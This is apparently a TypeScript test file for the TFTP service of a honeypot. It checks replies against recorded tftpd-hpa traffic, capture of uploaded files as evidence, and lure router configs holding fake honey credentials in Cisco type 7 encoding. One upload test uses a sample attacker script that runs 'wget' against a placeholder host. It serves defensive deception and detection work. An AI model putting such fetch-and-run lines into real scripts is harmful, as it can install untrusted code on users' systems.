import {createHash} from 'node:crypto'
import fc from 'fast-check'
import {describe, expect, it} from 'vitest'

import type {Service} from '../../../../src/decoy/service.ts'
import {fromNetascii, toNetascii} from '../../../../src/decoy/services/tftp/netascii.ts'
import {type7} from '../../../../src/decoy/services/tftp/type7.ts'
import {CORPUS, FILES} from './corpus.ts'
import golden from './golden-tftpd-hpa.json' with {type: 'json'}
import {ack, block, converse, tftpService} from './support.ts'

const RECORDED: Readonly<Record<string, readonly (string | null)[]>> = golden.recorded

function upload(service: Service, name: string, content: Buffer): void {
  const blocks = Array.from({length: Math.floor(content.length / 512) + 1}, (_, index) =>
    block(index + 1, content.toString('latin1', 512 * index, 512 * (index + 1))),
  )
  converse(service, [`\0\x02${name}\0octet\0`, ...blocks])
}

/** A file as a client gets it, with the option of large blocks. */
function download(service: Service, name: string): string {
  const {transfer, replies} = converse(service, [`\0\x01${name}\0octet\0blksize\x0060000\0`])
  if (replies[0]?.startsWith('\0\x06') !== true) throw new Error(`no ${name}: ${replies[0]}`)
  return transfer?.datagram(Buffer.from(ack(0), 'latin1')).replies[0]?.toString('latin1', 4) ?? ''
}

/** The names of the lures, as the service alone knows them: found by asking for what nmap and phones ask for. */
async function lures(seed: string, options = {}): Promise<string> {
  return download(await tftpService(options, {seed}), 'router-confg')
}

describe('tftpd-hpa', () => {
  it('is answered for, packet by packet', async () => {
    const service = await tftpService()
    for (const [name, content] of Object.entries(FILES)) upload(service, name, content)
    const said = Object.fromEntries(
      Object.entries(CORPUS).map(([name, packets]) => [name, converse(service, packets).replies]),
    )
    expect(said).toEqual(RECORDED)
  })
})

describe('a download', () => {
  it('is recorded as read once the last block is acknowledged', async () => {
    const service = await tftpService()
    const {transfer, events} = converse(service, ['\0\x01router-confg\0octet\0blksize\x0060000\0', ack(0)])
    expect(events.map(({event}) => event)).toEqual(['request'])
    const last = transfer?.datagram(Buffer.from(ack(1), 'latin1'))
    expect(last).toMatchObject({
      over: true,
      events: [{event: 'file.read', data: {path: 'router-confg', complete: true}}],
    })
  })

  it('is recorded as cut short where the client falls silent', async () => {
    const {transfer} = converse(await tftpService(), ['\0\x01router-confg\0octet\0'])
    expect(transfer?.abandoned()).toMatchObject([{event: 'file.read', data: {complete: false}}])
  })

  it('counts on after block 65535', async () => {
    const service = await tftpService()
    upload(service, 'large', Buffer.alloc(8 * 65_536 + 3, 7))
    const {transfer} = converse(service, ['\0\x01large\0octet\0blksize\x008\0'])
    let reply: Buffer = Buffer.alloc(0)
    for (let count = 0; count <= 65_536; count++) {
      reply = transfer?.datagram(Buffer.from(ack(count & 0xffff), 'latin1')).replies[0] ?? reply
    }
    expect(reply).toEqual(
      Buffer.from(`${block(1, '')}\x07\x07\x07`, 'latin1')
        .fill(0, 2, 4)
        .fill(1, 3, 4),
    )
  })
})

describe('an upload', () => {
  it('is kept as evidence with its digest, and can be read again', async () => {
    const service = await tftpService()
    const content = Buffer.from('#!/bin/sh\nwget http://x/y\n')
    const {events} = converse(service, ['\0\x02run.sh\0octet\0', block(1, content.toString('latin1'))])
    const sha256 = createHash('sha256').update(content).digest('hex')
    expect(events.slice(-2)).toMatchObject([
      {event: 'file.write', data: {path: 'run.sh', size: content.length, sha256, complete: true}},
      {event: 'capture', data: {sha256, content: content.toString('base64')}},
    ])
    expect(download(service, 'run.sh')).toBe(content.toString())
  })

  it('is written over by the next of its name', async () => {
    const service = await tftpService()
    converse(service, ['\0\x02run.sh\0octet\0', block(1, 'first')])
    converse(service, ['\0\x02run.sh\0octet\0', block(1, 'second')])
    expect(download(service, 'run.sh')).toBe('second')
  })

  it('that is cut short is evidence, too, and no file', async () => {
    const service = await tftpService()
    const {transfer} = converse(service, ['\0\x02half\0octet\0', block(1, 'x'.repeat(512))])
    expect(transfer?.abandoned()[0]).toMatchObject({event: 'file.write', data: {size: 512, complete: false}})
    expect(converse(service, ['\0\x01half\0octet\0']).replies).toEqual(['\0\x05\0\x01File not found\0'])
  })

  it('does not change a lure', async () => {
    const {replies} = converse(await tftpService(), ['\0\x02router-confg\0octet\0'])
    expect(replies).toEqual(['\0\x05\0\0Permission denied\0'])
  })

  it('is refused where uploads = no, and recorded', async () => {
    const {replies, events} = converse(await tftpService({uploads: false}), ['\0\x02run.sh\0octet\0'])
    expect(replies).toEqual(['\0\x05\0\x01File not found\0'])
    expect(events).toMatchObject([{event: 'request', data: {operation: 'write', outcome: 'File not found'}}])
  })

  it('has no more blocks than fit', async () => {
    const service = await tftpService()
    const {transfer} = converse(service, ['\0\x02big\0octet\0blksize\x0065464\0'])
    let last = transfer?.datagram(Buffer.from(block(1, 'x'.repeat(65_464)), 'latin1'))
    for (let number = 2; last?.over !== true; number++) {
      last = transfer?.datagram(Buffer.from(block(number, 'x'.repeat(65_464)), 'latin1'))
      expect(number).toBeLessThan(200)
    }
    expect(last?.replies[0]?.toString('latin1')).toBe('\0\x05\0\x03No space left on device\0')
  })
})

describe('the lures', () => {
  it('differ between deckies', async () => {
    const [one, two] = [await lures('11'.repeat(32)), await lures('22'.repeat(32))]
    const secrets = (text: string): string[] => text.match(/(?:password|key) 7 \w+/g) ?? []
    expect(secrets(one).length).toBeGreaterThan(2)
    expect(secrets(one).filter((secret) => secrets(two).includes(secret))).toEqual([])
    expect(await lures('11'.repeat(32))).toBe(one)
  })

  it('give the honey credentials away', async () => {
    const text = await lures('11'.repeat(32), {users: ['noc:Winter-2024']})
    const [, salt = '', octets = ''] = /username noc privilege 15 password 7 (\d\d)(\w+)/.exec(text) ?? []
    expect(type7('Winter-2024', Number(salt)).slice(2)).toBe(octets)
    const phones = await tftpService({users: ['2001:s3cret'], lures: ['phone']}, {seed: '07'.repeat(32)})
    expect(converse(phones, ['\0\x01router-confg\0octet\0']).replies).toEqual(['\0\x05\0\x01File not found\0'])
  })

  it('are those that the fleet file asks for', async () => {
    const service = await tftpService({lures: []})
    expect(converse(service, ['\0\x01router-confg\0octet\0']).replies).toEqual(['\0\x05\0\x01File not found\0'])
  })
})

describe('type 7', () => {
  it('is what IOS makes of a password', () => {
    // A published pair: `cisco` with salt 2.
    expect(type7('cisco', 2)).toBe('02050D480809')
  })
})

describe('netascii', () => {
  it('is undone by its opposite', () => {
    fc.assert(
      fc.property(fc.uint8Array({maxLength: 200}), (bytes) => {
        expect(fromNetascii(toNetascii(Buffer.from(bytes)))).toEqual(Buffer.from(bytes))
      }),
    )
  })
})
